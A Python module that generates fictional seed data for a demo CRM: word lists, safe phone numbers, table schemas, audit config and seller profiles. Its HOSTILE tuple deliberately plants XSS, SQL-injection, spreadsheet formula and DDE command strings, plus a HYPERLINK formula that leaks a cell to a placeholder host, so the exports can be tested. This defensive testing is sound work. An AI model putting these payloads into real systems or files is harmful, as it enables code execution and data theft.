"""The words of the demo CRM. All people and companies are fictional; any likeness is chance.

Phone numbers come from ranges that no operator hands out, e-mail domains from
those reserved for examples.
"""

from __future__ import annotations

import random
import unicodedata
from collections.abc import Mapping
from dataclasses import dataclass
from functools import cache
from typing import Final

PAST_DAYS: Final = 365
FICTION: Final = "All people and companies in this demo are fictional."

FIRST_NAMES: Final = (
    "Aafke",
    "Anouk",
    "Bastiaan",
    "Bente",
    "Bram",
    "Carlijn",
    "Daan",
    "Esmée",
    "Fenna",
    "Floris",
    "Geertje",
    "Hanneke",
    "Ilse",
    "Joost",
    "Jurre",
    "Klaas",
    "Lieke",
    "Maarten",
    "Noor",
    "Pieter-Jan",
    "Renée",
    "Ruben",
    "Sanne",
    "Thijs",
    "Zoë",
    "Alfred",
    "Beatrice",
    "Charlotte",
    "Dorian",
    "Edith",
    "Gareth",
    "Hazel",
    "Imogen",
    "Jasper",
    "Nigel",
    "Percy",
    "Rowena",
    "Tabitha",
    "Winston",
    "Djoke",
    "Douwe",
    "Eelkje",
    "Fedde",
    "Gjalt",
    "Hylke",
    "Jeltsje",
    "Minke",
    "Nynke",
    "Rixt",
    "Sjoerdtje",
    "Tjibbe",
    "Wytske",
    "Ayşe",
    "Berkay",
    "Çağla",
    "Deniz",
    "Elif",
    "Emre",
    "Gökhan",
    "Gülşen",
    "İpek",
    "Kerem",
    "Özlem",
    "Selin",
    "Şükrü",
    "Tolga",
    "Yiğit",
    "Anoushka",
    "Clyde",
    "Dewanand",
    "Faranaaz",
    "Gladys",
    "Hesdy",
    "Indra",
    "Kenrick",
    "Lucretia",
    "Maikel",
    "Rishi",
    "Roché",
    "Sharmila",
    "Wonny",
)

LAST_NAMES: Final = (
    "van der Zandvliet",
    "Molenbreek",
    "Kortenaerd",
    "Hazeldonck",
    "Windgaarde",
    "de Kerkuyl",
    "van 't Lindhout",
    "Bovenmaat",
    "ter Weidehof",
    "Duinsteeg",
    "Grachtenburgh",
    "Vlierwater",
    "op den Heuvelrand",
    "Roodeschaap",
    "Ashcombe",
    "Wetherfold",
    "Thornbury-Lane",
    "Fernsby-Holt",
    "O'Merrowby",
    "Quillstone",
    "Larkmead",
    "Pemberwick",
    "Sjoerdinga",
    "Wiersmastra",
    "Tjallemaer",
    "Hoekstrama",
    "Ypkemastra",
    "Bûterwei",
    "Reitsingastra",
    "Skûtemaker",
    "Akçataşlı",
    "Demirbulut",
    "Karakuşoğlu",
    "Yelkenay",
    "Gündoğduer",
    "Taşpınarlı",
    "Özgürdal",
    "Çamlıdereli",
    "Ramdhanlalsing",
    "Soekhpersadien",
    "Wongsodimejo",
    "Pinasbergh",
    "Kalisingh-Roos",
    "Bhagwankoemar",
    "Vreedzaamheid",
    "Landveldhoff",
)

COMPANY_STEMS: Final = (
    "Veldmark",
    "Noordkroon",
    "Zilverkaap",
    "Waddenlicht",
    "Kroonwerf",
    "Blauwvoet",
    "Hertenkamp",
    "Oostermeent",
    "Brandvuur",
    "Lisserwiel",
    "Tolbrug",
    "Klaverpolder",
    "Stormvogel",
    "Rietkraag",
    "Duizendpoot",
    "Maanzaad",
    "Copperfinch",
    "Marlowgate",
    "Ninefold",
    "Saltmarsh",
    "Hollybank",
    "Tidewell",
    "Greywether",
    "Larkspire",
    "It Fryske Each",
    "De Griene Greide",
    "Skierstins",
    "Simmerwyn",
    "Altınköprü",
    "Mavi Deniz",
    "Yıldızhan",
    "Kotomisi",
    "Faya Lobi",
    "Switi Watra",
    "Marowijn",
    "Château Brûlé",
    "Überfracht",
    "Señal Norte",
    "Łąkowa",
)

COMPANY_TRADES: Final = (
    "Techniek",
    "Logistiek",
    "Bouw",
    "Installaties",
    "Transport",
    "Foods",
    "Adviseurs",
    "Zorg",
    "Textiel",
    "Software",
    "Kwekerij",
    "Verpakkingen",
    "Engineering",
    "Interieur",
    "Zuivel",
    "Drukwerk",
    "Marine",
    "Events",
    "Metaal",
)

COMPANY_FORMS: Final = (
    "B.V.",
    "B.V.",
    "B.V.",
    "N.V.",
    "V.O.F.",
    "Ltd",
    "& Zn.",
    "Groep",
    "Coöperatie U.A.",
    "A.Ş.",
)

CITIES: Final = (
    "Leeuwarden",
    "Sneek",
    "Groningen",
    "Zwolle",
    "Utrecht",
    "Rotterdam",
    "Almere",
    "Eindhoven",
    "'s-Hertogenbosch",
    "Middelburg",
    "Paramaribo",
    "İzmir",
    "York",
)

SUBJECTS: Final = (
    "Intake",
    "Introduction",
    "Quarterly review",
    "Offer discussed",
    "Offerte bespreken",
    "Site visit",
    "Demo",
    "Contract renewal",
    "Evaluatie",
    "Price talk",
    "Kick-off",
    "Lunch",
    "Complaint follow-up",
    "Jaargesprek",
)

RESULTS: Final = (
    "Wants an offer",
    "Will decide after the board meeting",
    "No budget this year",
    "Signed on the spot",
    "Asked for two references",
    "Wil eerst een proefplaatsing",
    "Happy with the delivery",
    "Compares us with two others",
    "Price is too high, scope is fine",
    "Belt zelf terug",
    "New contact person from next month",
    "Needs a smaller pilot",
)

NEXT_STEPS: Final = (
    "offer by Friday",
    "call again in two weeks",
    "send the brochure",
    "nothing to do",
    "plan a site visit",
    "offerte aanpassen",
    "ask legal",
    "meet the director",
)

CALL_SUBJECTS: Final = (
    "Called back",
    "Appointment made",
    "Wrong number",
    "Voicemail",
    "Question about the invoice",
    "Offer explained",
    "Terugbelverzoek",
    "No answer",
    "Delivery date",
    "Introduction",
)

DEAL_NAMES: Final = (
    "Annual contract",
    "Pilot",
    "Expansion",
    "Renewal",
    "Service agreement",
    "First order",
    "Licence",
    "Onderhoud",
    "Maatwerk",
    "Training days",
    "Replacement",
    "Framework contract",
)

BLANKS: Final = (None, None, "", "", "   ", "\u00a0", "\u3000")
"""What people leave in a text field: nothing, in five spellings. All of them mean *missing*."""

LONG_TEXT: Final = ("Minutes, pasted whole. " * 2_000)[:40_000]
"""A meeting's result of 40,000 characters, longer than a cell of a
spreadsheet can hold (32,767).
"""

HOSTILE: Final = (
    ("contacts", "last_name", "<script>alert('last name')</script>"),
    ("contacts", "first_name", "<img src=x onerror=alert(1)>"),
    ("contacts", "last_name", "=1+1"),
    ("contacts", "last_name", "+1+1"),
    ("contacts", "first_name", "-2+3"),
    ("contacts", "last_name", "@SUM(A1:A9)"),
    ("contacts", "last_name", 'O\'Brienstra "Bob"'),
    ("contacts", "first_name", "\u202eannaS"),  # an override of the writing direction
    # Arabic
    ("contacts", "last_name", "\u0639\u0644\u064a \u0627\u0644\u0645\u0635\u0646\u0648\u0639"),
    # e and a combining diaeresis: equal to look at, other code points
    ("contacts", "first_name", "Zoe\u0308"),
    ("contacts", "last_name", "Robert'); DROP TABLE clients;--"),
    ("clients", "name", '=HYPERLINK("https://demo-crm.example/?leak="&A1,"click")'),
    ("clients", "name", "../../etc/Bakkerij"),
    ("clients", "name", "<b>Vet & Zn.</b> </td></tr></table>"),
    ("clients", "name", "\u05d7\u05d1\u05e8\u05d4 \u05d1\u05d3\u05d5\u05d9\u05d4"),  # Hebrew
    # emoji, one joined of three
    ("clients", "name", "Taart & Co \U0001f382\U0001f468\u200d\U0001f373"),
    ("clients", "name", "{{ 7 * 7 }} {% raw %} ${x} %s"),
    ("meetings", "subject", "Line\x0btabbed"),  # a control character that XML forbids
    ("meetings", "subject", "=cmd|' /C calc'!A0"),
    ("meetings", "subject", "Two\r\nlines\tand a tab"),
    ("meetings", "subject", "</script><script>alert(2)</script>"),
    ("meetings", "result", LONG_TEXT),
    ("deals", "name", "Deal; \"quoted\", 'twice', and, commas"),
    ("deals", "name", "\U0001f680 rocket \u2013 na\u00efve caf\u00e9"),
    ("leads", "last_name", '"><svg onload=alert(3)>'),
    ("calls", "subject", "\uff1d1+1"),  # a full-width equals sign
)
"""(table, column, value): each is planted in one live record of an active manager."""

BAD_EMAILS: Final = (
    "{0}.example.com",
    "{0}@@mail.example",
    "{0}@",
    "{0} at mail.example",
    "@mail.example",
)
"""Shapes of addresses that no mail reaches."""


FILLERS: Final = ("12345", "0612345678", "xxx", "n.v.t.", "000", "06 12345678", "?", "volgt")
"""What people type where a form insists on a phone number."""
NO_NUMBERS: Final = ("see card", "ask reception", "via the office")
UNISSUED: Final = ("+31 6 0000 1234", "+31 6 0000 5678")
"""Numbers that could be dialled, and that nobody is known to have."""


@cache
def slug(text: str) -> str:
    """The text as part of an address: a-z, 0-9 and hyphens."""
    plain = unicodedata.normalize("NFKD", text.lower().replace("ı", "i").replace("ł", "l"))
    plain = "".join(
        c if c.isascii() and c.isalnum() else "-" for c in plain if not unicodedata.combining(c)
    )
    return "-".join(part for part in plain.split("-") if part) or "x"


_AREAS: Final = ("1 99 00", "2 61 91", "3 53 01", "4 65 71", "5 36 49")
"""Numbers of France that are kept for films and books."""


def phone(rng: random.Random, whose: str) -> str:
    """A number that is nobody's, and that can be dialled; two people rarely share one."""
    number = rng.randrange(10_000)
    area = _AREAS[sum(map(ord, whose)) % len(_AREAS)]
    kinds = (
        f"+33 {area} {number // 100:02d} {number % 100:02d}",
        f"+1 202 555 01{number % 100:02d}",
        f"+44 20 7946 0{number % 1000:03d}",
    )
    return rng.choices(kinds, (98, 1, 1))[0]


def person(rng: random.Random, domain: str) -> dict[str, str | None]:
    """A person who can be reached: by phone, e-mail or both."""
    first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
    reach = rng.choices(("both", "phone", "email"), (7, 1, 2))[0]
    return {
        "first_name": first,
        "last_name": last,
        "phone": phone(rng, f"{first}{last}") if reach != "email" else rng.choice(BLANKS),
        "email": f"{slug(first)}.{slug(last)}@{domain}"
        if reach != "phone"
        else rng.choice(BLANKS),
    }


def company(rng: random.Random) -> tuple[str, str]:
    """A name, and the domain that goes with it."""
    stem, trade = rng.choice(COMPANY_STEMS), rng.choice(COMPANY_TRADES)
    return f"{stem} {trade} {rng.choice(COMPANY_FORMS)}", f"{slug(stem)}-{slug(trade)}.example"


_PERSON: Final = "first_name TEXT, last_name TEXT, phone TEXT, email TEXT"
_OWNED: Final = "id TEXT PRIMARY KEY, owner_id TEXT"
_LIFE: Final = "created_at TEXT, is_deleted INTEGER NOT NULL DEFAULT 0"
_ORIGIN: Final = "created_by TEXT, updated_at TEXT"
_MAIL: Final = "country TEXT, no_mail INTEGER, consent INTEGER, bounced INTEGER"
_ADDRESS: Final = "street TEXT, postcode TEXT, confirmed_at TEXT"
_ABOUT: Final = "deal_id TEXT, source TEXT"
TABLES: Final[Mapping[str, str]] = {
    "users": "id TEXT PRIMARY KEY, first_name TEXT, last_name TEXT, email TEXT, team_id TEXT,"
    f" is_active INTEGER NOT NULL, is_system INTEGER NOT NULL, {_LIFE}, language TEXT, fte TEXT, hired_on TEXT,"
    " left_on TEXT",
    "teams": f"id TEXT PRIMARY KEY, name TEXT, leader_id TEXT, {_LIFE}",
    "clients": f"{_OWNED}, kind TEXT NOT NULL, name TEXT, {_PERSON}, city TEXT, {_LIFE}, {_ADDRESS}, {_MAIL},"
    f" {_ORIGIN}",
    "contacts": f"{_OWNED}, client_id TEXT, {_PERSON}, {_LIFE}, city TEXT, {_ADDRESS}, {_MAIL}, {_ORIGIN}",
    "leads": f"{_OWNED}, status TEXT, company TEXT, {_PERSON}, {_LIFE}, {_MAIL}, {_ORIGIN}",
    "meetings": f"{_OWNED}, client_id TEXT, lead_id TEXT, subject TEXT, status TEXT, starts_at TEXT, ends_at TEXT,"
    f" result TEXT, {_LIFE}, {_ABOUT}, {_ORIGIN}",
    "meeting_contacts": "id TEXT PRIMARY KEY, meeting_id TEXT, contact_id TEXT, is_deleted INTEGER NOT NULL DEFAULT 0",
    "calls": f"{_OWNED}, client_id TEXT, contact_id TEXT, direction TEXT, subject TEXT, status TEXT, starts_at TEXT,"
    f" ends_at TEXT, {_LIFE}, {_ABOUT}, reached TEXT, {_ORIGIN}",
    "deals": f"{_OWNED}, client_id TEXT, name TEXT, stage TEXT, amount_cents INTEGER, currency TEXT, closed_on TEXT,"
    f" {_LIFE}, next_step TEXT, lost_reason TEXT, {_ORIGIN}",
    "changes": "id TEXT PRIMARY KEY, table_name TEXT, record_id TEXT, field TEXT, old_value TEXT, new_value TEXT,"
    " user_id TEXT, changed_at TEXT",
}
"""Table -> columns. References are plain columns: like most CRMs, this one
lets them point at nothing.
"""

INDEXES: Final = (
    "clients(owner_id)",
    "contacts(owner_id)",
    "contacts(client_id)",
    "leads(owner_id)",
    "meetings(owner_id)",
    "meetings(client_id)",
    "meetings(starts_at)",
    "meeting_contacts(meeting_id)",
    "calls(owner_id)",
    "calls(starts_at)",
    "deals(owner_id)",
    "deals(client_id)",
    "deals(closed_on)",
    "changes(table_name, record_id)",
)

AUDIT_YAML: Final = f"""\
# The audit of the demo CRM beside this file. {FICTION}
# Relative paths are relative to this file.

# What the reports call the whole.
name: Demo Sales

# By this id its findings are known from run to run.
id: demo

# The database to read (it is never written to), and the preset that knows its tables.
source:
  url: "sqlite:///crm.db"
  preset: demo

# The zone of the people whose days are counted.
zone: Europe/Amsterdam

# The currency of the plan and of amounts that name none.
currency: EUR

# The days on which people work: they decide how many are left for the plan.
working_week: [mon, tue, wed, thu, fri]

# The days that are audited: "month" is the month of the day before, on the 1st the one that has just ended.
period: month

# The plan: manager,month,metric,target
targets: targets.csv

# What is not asked of a record until a day, and what is under discussion.
exceptions: exceptions.csv

# What every record must hold: the program's own field sets, but for the one of contacts in this folder.
field_sets: expectations

# The country of phone numbers without + whose record names no country.
region: NL

# Where reports go.
output: output

# When the audit runs on its own, in cron's notation: minute hour day month weekday.
schedule:
  weekly: "0 7 * * mon"  # Monday 07:00
"""


FIELD_SET: Final = """\
# The minimum field set of a contact in this demo: contact details must be usable. docs/field-sets.md explains each key.
entity: contact
fields:
  - name: last_name
    label: {en: last name, nl: achternaam}
    columns: [last_name]
    why:
      en: a letter has to be addressed to somebody
      nl: een brief moet aan iemand gericht zijn
  - name: first_name
    label: {en: first name, nl: voornaam}
    columns: [first_name]
    why:
      en: a mailing greets by it
      nl: een mailing begint ermee
  - name: details
    label: {en: phone or e-mail, nl: telefoon of e-mail}
    columns: [phone, email]
    valid: yes
    not_placeholder: yes
    unique: company
    why:
      en: a mailing or a call reaches nobody without
      nl: zonder is niemand te mailen of te bellen
"""


@dataclass(frozen=True, slots=True)
class Seller:
    """A user who owns records, and the habits that show in them."""

    id: str
    first: str
    last: str
    team: str
    care: float  # carelessness: 1 leaves out 5 % of what is easily forgotten
    pace: float  # share of the work, relative to the others
    wins: int  # deals won in an ordinary month, and the plan
    form: float  # wins of the current month against that
    open_deals: int
    overdue: int  # of the open deals
    joined: int = PAST_DAYS  # days before today
    left: int = 0  # days before today
    writes: float = 1.0  # share of the working days with any entry
    planned: bool = True  # has a target
    state: str = "active"  # 'inactive' (left the company), 'deleted'


SELLERS: Final = (
    # diligent, leads North
    Seller("u01", "Femke", "Hazeldonck", "t1", 0.12, 1.0, 6, 1.0, 19, 1),
    # the star who fills in half of it
    Seller("u02", "Daan", "van der Zandvliet", "t1", 12.0, 1.1, 8, 1.2, 24, 3),
    Seller("u03", "Özlem", "Akçataşlı", "t1", 1.2, 1.0, 5, 0.9, 17, 2),
    # opens everything and closes nothing
    Seller("u04", "Gjalt", "Wiersmastra", "t1", 2.6, 1.1, 4, 0.7, 58, 31),
    Seller("u05", "Rishi", "Ramdhanlalsing", "t1", 1.7, 0.9, 6, 1.1, 21, 2),
    Seller("u06", "Imogen", "Thornbury-Lane", "t1", 0.9, 1.0, 5, 0.8, 18, 3),
    # leads South
    Seller("u07", "Bram", "Molenbreek", "t2", 0.5, 0.6, 3, 1.0, 12, 1, planned=False),
    Seller("u08", "Nynke", "Sjoerdinga", "t2", 1.4, 1.1, 6, 1.0, 20, 3),
    # silent on most days
    Seller("u09", "Maarten", "ter Weidehof", "t2", 3.2, 0.5, 4, 0.5, 22, 6, writes=0.45),
    Seller("u10", "Zoë", "Pinasbergh", "t2", 0.6, 1.0, 5, 1.1, 16, 1),
    Seller("u11", "Kerem", "Demirbulut", "t2", 2.2, 1.0, 6, 0.9, 23, 4),
    # the newcomer
    Seller(
        "u12", "Lieke", "de Kerkuyl", "t2", 1.5, 0.8, 2, 1.0, 9, 0, joined=49, planned=False
    ),
    Seller(
        "u13",
        "Winston",
        "Ashcombe",
        "t1",
        3.2,
        0.8,
        5,
        0.0,
        14,
        12,
        left=42,
        planned=False,
        state="inactive",
    ),
    Seller(
        "u14",
        "Hylke",
        "Duinsteeg",
        "t2",
        2.8,
        0.6,
        4,
        0.0,
        6,
        6,
        left=240,
        planned=False,
        state="deleted",
    ),
)
STAR, SILENT, NEWCOMER, LEAVER, SYSTEM = "u02", "u09", "u12", "u13", "u90"
TEAMS: Final = (("t1", "North", "u01"), ("t2", "South", "u07"))
ACTIVE: Final = frozenset(seller.id for seller in SELLERS if seller.state == "active")
# nobody, and users who are in no table
LOST_OWNERS: Final = (None,) * 12 + ("u77",) * 4 + ("u88",) * 3

_HELD: Final = ("held",)
OPEN: Final = ("new", "proposal", "negotiation")
SPOILS: Final[tuple[tuple[str, tuple[str, ...], float, tuple[str, ...]], ...]] = (
    ("meetings", ("result",), 0.12, _HELD),
    ("meetings", ("subject",), 0.05, ()),
    ("clients", ("name",), 0.012, ()),
    ("clients", ("phone", "email"), 0.05, ()),
    ("contacts", ("phone", "email"), 0.06, ()),
    ("contacts", ("last_name",), 0.04, ()),
    ("contacts", ("first_name",), 0.05, ()),
    ("leads", ("phone", "email"), 0.06, ()),
    ("leads", ("last_name",), 0.08, ()),
    ("calls", ("direction",), 0.05, ()),
    ("calls", ("status",), 0.02, ()),
    ("calls", ("client_id", "contact_id"), 0.05, ()),
    ("deals", ("client_id",), 0.04, ()),
    ("deals", ("amount_cents",), 0.04, ()),
    ("deals", ("closed_on",), 0.05, OPEN),
    ("deals", ("name",), 0.012, ()),
)
"""(table, fields left empty together, share at carelessness 1, only in these states)."""
NO_CONTACT: Final = 0.06  # share of meetings without anybody, at carelessness 1
# empty is NULL, never a blank text
TEXTLESS: Final = ("client_id", "contact_id", "amount_cents", "closed_on")
